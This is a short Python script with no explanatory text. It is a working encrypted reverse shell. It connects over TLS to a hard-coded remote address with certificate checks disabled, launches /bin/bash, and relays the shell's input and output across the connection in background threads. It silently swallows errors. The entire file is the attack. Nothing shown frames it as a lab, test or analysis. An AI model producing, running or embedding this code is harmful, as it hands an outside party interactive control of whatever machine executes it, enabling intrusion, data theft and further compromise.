import socket
import ssl
import subprocess
import threading

HOST, PORT = "198.51.100.23", 8443


def _pump(read, write):
    while True:
        chunk = read(1024)
        if not chunk:
            break
        write(chunk)


def _session():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn = context.wrap_socket(raw)
    conn.connect((HOST, PORT))
    shell = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             stderr=subprocess.STDOUT)
    threading.Thread(target=_pump, args=(conn.recv, shell.stdin.write), daemon=True).start()
    threading.Thread(target=_pump, args=(shell.stdout.read1, conn.sendall),
                     daemon=True).start()


try:
    _session()
except OSError:
    pass
